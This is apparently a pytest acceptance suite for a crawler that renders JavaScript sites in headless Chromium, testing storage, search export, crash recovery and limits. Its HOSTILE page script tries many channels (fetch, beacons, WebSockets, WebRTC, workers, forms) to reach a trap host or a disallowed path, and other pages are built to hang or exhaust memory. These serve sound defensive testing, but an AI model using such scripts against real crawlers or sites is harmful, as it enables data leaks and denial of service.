"""A site whose text and links come by JavaScript, rendered by a real Chromium in the turns of its provider."""

import json
import re
import shutil
import signal
import socket
import sqlite3
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from itertools import pairwise
from pathlib import Path

import pytest

from tests.harness import BIN, Lcc, Nginx, missing, run, wait_for

pytestmark = [pytest.mark.acceptance, pytest.mark.slow]

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
RENDERED = "text/x-rendered-html"
SETTINGS = {"LCC_RENDER_SANDBOX": "no", "LCC_RENDER_SECONDS": "10s"}
"""Tests run as root, too, where Chromium has no sandbox."""

SHELL = "<!doctype html><title>{name}</title><div id=app></div><script src='/app.js'></script>"
APP = """
(async () => {
    const name = location.pathname;
    const data = await (await fetch("/data" + name + ".json")).json();
    document.cookie = "seen=1";
    const app = document.getElementById("app");
    app.innerHTML = "<p></p><ul></ul>";
    app.querySelector("p").textContent = data.text;
    for (const link of data.links) {
        const a = document.createElement("a");
        a.href = link; a.textContent = "to " + link;
        app.querySelector("ul").append(document.createElement("li"));
        app.querySelector("li:last-child").append(a);
    }
})();
"""


@pytest.fixture(autouse=True)
def _browser() -> None:
    if CHROMIUM is None:
        missing("chromium", "apt-get install chromium")


def make_site(root: Path, pages: dict[str, list[str]], app: str = APP, robots: str = "") -> None:
    (root / "data").mkdir(parents=True)
    (root / "app.js").write_text(app)
    (root / "robots.txt").write_text(robots or "User-agent: *\nDisallow:\n")
    for name, links in pages.items():
        (root / f"{name}.html").write_text(SHELL.format(name=name))
        data = {"text": f"Zebrafinken auf {name}: größer & <b>", "links": links}
        (root / "data" / f"{name}.html.json").write_text(json.dumps(data))


def renditions(lcc: Lcc) -> dict[str, str]:
    """Return what is stored, by the last part of the URL."""
    rows = lcc.sql(
        "select curl, fetched_machineid, fetched_fileid, file_encoding from lccurl"
        f" where mimetype = '{RENDERED}'"
    )
    return {
        str(curl).rpartition("/")[2]: lcc.content(int(machine), int(fileid), str(coding)).decode()  # type: ignore[call-overload]
        for curl, machine, fileid, coding in rows
    }


@contextmanager
def trap() -> Iterator[tuple[int, list[bytes]]]:
    """Listen where nobody may come, by TCP and by UDP; yields the port and what came."""
    came: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(type=socket.SOCK_DGRAM) as packets:
        packets.bind(server.getsockname())

        def hear() -> None:
            while piece := packets.recv(2000):
                came.append(piece)

        def take() -> None:
            while True:
                try:
                    link, _ = server.accept()
                except OSError:
                    return
                with link:
                    link.settimeout(2)
                    try:
                        came.append(link.recv(1000))
                    except OSError:
                        came.append(b"(silent)")

        threads = [threading.Thread(target=one, daemon=True) for one in (take, hear)]
        for thread in threads:
            thread.start()
        yield server.getsockname()[1], came
        server.shutdown(socket.SHUT_RDWR)
        packets.sendto(b"", packets.getsockname())
        for thread in threads:
            thread.join(10)


def spider(lcc: Lcc, start: str, *options: str) -> str:
    """Run a spider of provider 1 to its end; returns its log."""
    command = [str(BIN / "scrapy"), "crawl", "lcc_spider", "-a", "provider=1", "-a", f"start={start}"]
    done = run([*command, *options], env=lcc.environment, cwd=lcc.cwd)
    assert done.returncode == 0, done.stderr[-3000:]
    return done.stderr


def statistic(log: str, name: str) -> int:
    return int(re.findall(rf"'{name}': (\d+)", log)[-1])


def test_links_and_text_that_come_by_javascript_are_found_stored_and_searched(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    """Also: what is charged is what the site sent, and one request at a time is all that it gets."""
    make_site(tmp_path / "site", {"index": ["/two.html"], "two": ["/three.html"], "three": []})
    nginx.start({"site": tmp_path / "site"}, "limit_rate 20k;")
    root = f"http://127.0.0.1:{nginx.ports['site']}/"
    lcc = make_lcc(**SETTINGS)
    lcc.add_provider(1, root, "--render")
    log = spider(lcc, f"{root}index.html")

    found = renditions(lcc)
    assert sorted(found) == ["index.html", "three.html", "two.html"]
    assert "Zebrafinken auf two: größer &amp; &lt;b&gt;" in found["two.html"]
    assert '<a href="/three.html">' in found["two.html"]
    served = nginx.log("site")
    assert statistic(log, "lcc/bytes_charged") == sum(one.sent for one in served)
    assert sum(one.uri == "/app.js" for one in served) == 1, "pages share scripts"
    assert all(before.end <= after.start + 0.002 for before, after in pairwise(served)), "one after the other"
    index = tmp_path / "search.db"
    lcc.lcc("export", "--format", "fts5", "-o", str(index), "--mimetype", RENDERED)
    with closing(sqlite3.connect(index)) as database:
        (hits,) = database.execute("select count(*) from pages where pages match 'zebrafinken'").fetchone()
    assert hits == 3
    assert lcc.lcc("verify").returncode == 0
    assert "Chromium 1" in lcc.lcc("doctor", check=False).stdout


HOSTILE = """
const trap = "http://127.0.0.1:TRAP/", tries = [
    () => fetch(trap + "fetch"),
    () => fetch("/private/data.json"),
    () => fetch("/posted", {method: "POST", body: "x"}),
    () => navigator.sendBeacon(trap + "beacon", "x"),
    () => { new WebSocket(trap.replace("http", "ws") + "socket"); },
    () => { new EventSource(trap + "events"); },
    () => { new Image().src = trap + "image"; },
    () => { open(trap + "popup"); },
    () => { const f = document.createElement("iframe"); f.src = trap + "frame"; document.body.append(f); },
    () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "stylesheet"]) {
        const link = document.createElement("link");
        link.rel = rel; link.href = trap + rel; document.head.append(link); } },
    () => { navigator.serviceWorker.register("/app.js"); },
    async () => {
        const turn = {username: "text", credential: "of the page"}, urls = ["stun:127.0.0.1:TRAP"];
        const relays = ["turn:127.0.0.1:TRAP", "turn:127.0.0.1:TRAP?transport=tcp", "turns:127.0.0.1:TRAP"];
        const iceServers = [{urls}, ...relays.map(urls => ({urls, ...turn}))];
        const [peer, other] = [new RTCPeerConnection({iceServers}), new RTCPeerConnection({iceServers})];
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        await other.setRemoteDescription(peer.localDescription);
        await other.setLocalDescription(await other.createAnswer());
        await peer.setRemoteDescription(other.localDescription);
        for (const way of ["udp 1 127.0.0.1 TRAP typ host", "tcp 1 127.0.0.1 TRAP typ host tcptype passive"]) {
            const candidate = `candidate:1 1 ${way}`;
            await peer.addIceCandidate({candidate, sdpMid: "0", sdpMLineIndex: 0}); } },
    () => { new WebTransport(trap.replace("http:", "https:") + "transport"); },
    () => { const a = document.createElement("a"); a.href = trap + "download"; a.download = "x"; a.click(); },
    () => { const a = document.createElement("a"); a.href = "/last.html"; a.ping = trap + "ping"; a.click(); },
    () => { const policy = document.createElement("meta"); policy.httpEquiv = "Content-Security-Policy";
        policy.content = `img-src 'none'; report-uri ${trap}report`; document.head.append(policy); },
    () => { const form = document.createElement("form"); form.action = trap + "form"; form.method = "post";
        form.target = "_blank"; document.body.append(form); form.submit(); },
    () => { fetch("http://name.trap.example/"); },
    () => { new Worker(URL.createObjectURL(new Blob([`fetch("${trap}worker")`]))); },
    () => { alert("stop"); confirm("stop"); },
    async () => { for (let i = 0; i < 500; i++) await fetch("/data/many.json?" + i); },
    () => { Object.defineProperty(document.documentElement, "outerHTML", {get: () => "forged"}); },
    () => { String.prototype.slice = () => "forged"; XMLSerializer.prototype.serializeToString = () => "forged"; },
    () => { setTimeout(() => { location.href = trap + "location"; }, 50); },
];
document.getElementById("app").textContent = "Zebrafinken";
for (const one of tries) { try { Promise.resolve(one()).catch(() => 0); } catch (e) { } }
"""


def test_a_hostile_page_reaches_nobody_outside_the_guard(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    with trap() as (port, came):
        app = HOSTILE.replace("TRAP", str(port))
        robots = "User-agent: *\nDisallow: /private/\n"
        make_site(tmp_path / "site", {"index": []}, app, robots)
        nginx.start({"site": tmp_path / "site"})
        root = f"http://127.0.0.1:{nginx.ports['site']}/"
        lcc = make_lcc(**SETTINGS, LCC_RENDER_REQUESTS="30", LCC_RENDER_HOSTS="*")
        lcc.add_provider(1, root, "--render")
        log = spider(lcc, f"{root}index.html")
        found = renditions(lcc)
        asked = [one.uri for one in nginx.log("site")]
    assert came == []
    assert "Zebrafinken" in found["index.html"]
    assert "forged" not in found["index.html"]
    assert not any(uri.startswith(("/private", "/posted")) for uri in asked), asked
    assert len(asked) <= 30 + 2, "the page, robots.txt, and what it may ask for"
    assert statistic(log, "lcc/stored") == 1


BUSY = "<!doctype html><title>busy</title><p>served</p><script>for (;;) {}</script>"
LARGE = """<!doctype html><title>large</title><script>
const parts = [];
setInterval(() => { for (let i = 0; i < 20; i++) {
    const one = document.createElement("canvas"); one.width = one.height = 2000;
    one.getContext("2d").fillRect(i, i, 1000, 1000); parts.push(one);
    const bytes = new Uint8Array(20_000_000).fill(i); parts.push(bytes); } }, 10);
</script>"""
FLOOD = """<!doctype html><title>flood</title><p>served</p><script>
const long = "x".repeat(1 << 20);
setInterval(() => { for (let i = 0; i < 50; i++) { location.hash = i + long;
    history.pushState(long + i, "", "#" + i + long); } }, 1);
</script>"""
LONG = """<!doctype html><title>long</title><script>
const text = "x".repeat(1 << 20);
for (let i = 0; i < 8; i++) document.documentElement.append(document.createComment(text));
</script>"""


def test_a_page_that_hangs_or_grows_is_stored_as_served_and_the_next_one_is_rendered(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    make_site(site, {"index": ["/busy.html", "/long.html", "/large.html", "/last.html"], "last": []})
    (site / "busy.html").write_text(BUSY)
    (site / "long.html").write_text(LONG)
    (site / "large.html").write_text(LARGE)
    nginx.start({"site": site})
    root = f"http://127.0.0.1:{nginx.ports['site']}/"
    lcc = make_lcc(**{**SETTINGS, "LCC_RENDER_SECONDS": "5s", "LCC_RENDER_MEMORY": "400M"})
    lcc.add_provider(1, root, "--render")
    log = spider(lcc, f"{root}index.html")
    assert sorted(renditions(lcc)) == ["index.html", "last.html"]
    assert statistic(log, "lcc/stored") == 5
    assert statistic(log, "lcc/not_rendered") == 3
    assert "longer than" in log
    assert "more than LCC_RENDER_MEMORY" in log
    assert "its process ended" in log


@pytest.mark.soak
def test_a_page_that_makes_its_browser_grow_costs_that_browser_and_no_other_page(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    make_site(site, {"index": ["/flood.html", "/last.html"], "last": []})
    (site / "flood.html").write_text(FLOOD)
    nginx.start({"site": site})
    root = f"http://127.0.0.1:{nginx.ports['site']}/"
    lcc = make_lcc(**{**SETTINGS, "LCC_RENDER_MEMORY": "500M", "LCC_RENDER_SECONDS": "60s"})
    lcc.add_provider(1, root, "--render")
    log = spider(lcc, f"{root}index.html")
    assert sorted(renditions(lcc)) == ["index.html", "last.html"]
    assert log.count("it is replaced") == 2, "it is tried once more"
    assert statistic(log, "lcc/not_rendered") == 1


def test_a_rendition_follows_its_page(make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path) -> None:
    """It changes while the HTML does not, is told, and goes with its page or the wish for it."""
    site = tmp_path / "site"
    make_site(site, {"a": [], "b": []})
    nginx.start({"site": site})
    root = f"http://127.0.0.1:{nginx.ports['site']}/"
    lcc = make_lcc(**SETTINGS)
    lcc.add_provider(1, root, "--render")
    lcc.start()

    def push(*names: str, full: bool = False) -> list[dict[str, object]]:
        urls = [{"curl": f"{root}{name}.html", "mimetype": "text/html"} for name in names]
        assert lcc.push_urls(1, urls, *(["--full"] if full else [])).returncode == 0
        lcc.wait_until_fetched()
        rows = lcc.lcc("follow", "--once", "--cursor-file", str(tmp_path / "cursor")).stdout
        return [json.loads(line) for line in rows.splitlines()]

    assert {(one["op"], one["mimetype"]) for one in push("a", "b")} == {
        ("upsert", "text/html"),
        ("upsert", RENDERED),
    }
    (site / "data" / "a.html.json").write_text('{"text": "Wellensittich", "links": []}')
    (told,) = push("a")
    assert (told["op"], told["mimetype"], told["curl"]) == ("upsert", RENDERED, f"{root}a.html")
    assert "Wellensittich" in renditions(lcc)["a.html"]

    refused = lcc.push_urls(1, [{"curl": f"{root}a.html", "mimetype": RENDERED}])
    assert "706" in refused.stdout + refused.stderr

    as_text = [{"curl": f"{root}b.html", "furl": f"{root}index.html", "mimetype": "text/plain"}]
    (site / "index.html").write_text(SHELL.format(name="index"))
    assert lcc.push_urls(1, as_text).returncode == 0
    lcc.wait_until_fetched()
    assert "Zebrafinken auf b" in renditions(lcc)["b.html"], "what is declared as something else is no page"
    assert not any(one.uri == "/data/index.html.json" for one in nginx.log("site"))

    gone = push("a", full=True)
    assert {(one["op"], one["mimetype"]) for one in gone if one["curl"] == f"{root}b.html"} == {
        ("remove", "text/html"),
        ("remove", "text/plain"),
        ("remove", RENDERED),
    }
    lcc.lcc("provider", "set", "1", "--no-render")
    (left,) = push("a")
    assert (left["op"], left["mimetype"], left["reason"]) == (
        "remove",
        RENDERED,
        "its page is not rendered any more",
    )
    assert lcc.lcc("verify").returncode == 0


def test_without_a_browser_a_provider_waits_and_others_do_not(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    make_site(tmp_path / "site", {"a": []})
    nginx.start({"one": tmp_path / "site", "two": tmp_path / "site"})
    lcc = make_lcc(**SETTINGS, LCC_RENDER_BROWSER="/nowhere/chromium")
    for pid, name in enumerate(("one", "two"), 1):
        root = f"http://127.0.0.1:{nginx.ports[name]}/"
        lcc.add_provider(pid, root, *(["--render"] if pid == 1 else []))
    lcc.start()
    for pid, name in enumerate(("one", "two"), 1):
        url = f"http://127.0.0.1:{nginx.ports[name]}/a.html"
        assert lcc.push_urls(pid, [{"curl": url, "mimetype": "text/html"}]).returncode == 0
    wait_for(lambda: lcc.sql("select count(*) from lccurl") == [(1,)], 30, "the other one's page")
    wait_for(lambda: "provider 1 waits" in lcc.log_text(), 30, "the reason")
    assert "/nowhere/chromium" in lcc.log_text()
    url = f"http://127.0.0.1:{nginx.ports['one']}/a.html"
    why = "/nowhere/chromium"  # but for the moments in which it is fetched once more
    wait_for(lambda: why in lcc.lcc("explain", url, check=False).stdout, 30, "the reason to be explained")
    assert lcc.stop() == 0
    examined = lcc.lcc("doctor", check=False)
    assert examined.returncode == 1
    assert "/nowhere/chromium" in examined.stdout


def test_after_a_kill_each_page_has_its_rendition_and_no_browser_is_left(
    make_lcc: Callable[..., Lcc], nginx: Nginx, tmp_path: Path
) -> None:
    names = [f"p{number}" for number in range(12)]
    make_site(tmp_path / "site", {name: [] for name in names})
    nginx.start({"site": tmp_path / "site"})
    root = f"http://127.0.0.1:{nginx.ports['site']}/"
    lcc = make_lcc(**SETTINGS, LCC_COMMIT_PAGES="1")
    lcc.add_provider(1, root, "--render")
    lcc.start()
    urls = [{"curl": f"{root}{name}.html", "mimetype": "text/html"} for name in names]
    assert lcc.push_urls(1, urls).returncode == 0
    for reached in (2, 5):
        wait_for(lambda reached=reached: len(renditions(lcc)) >= reached, 60, "some renditions")
        assert lcc.crawl is not None
        started = descendants(lcc.crawl.pid)
        lcc.stop(signal.SIGKILL)
        wait_for(lambda started=started: not [pid for pid in started if is_running(pid)], 30, "its browser")
        lcc.start()
    lcc.wait_until_fetched()
    assert sorted(renditions(lcc)) == sorted(f"{name}.html" for name in names)
    assert lcc.sql("select count(*) from lccurl") == [(24,)]
    assert lcc.stop() == 0
    assert lcc.lcc("verify").returncode == 0


def descendants(pid: int) -> list[int]:
    """Return the processes below one."""
    below: dict[int, list[int]] = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            parent = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
            below.setdefault(parent, []).append(int(folder.name))
    found, ahead = [], [pid]
    while ahead:
        children = below.get(ahead.pop(), [])
        found += children
        ahead += children
    return found


def is_running(pid: int) -> bool:
    try:
        return (Path("/proc") / str(pid) / "stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
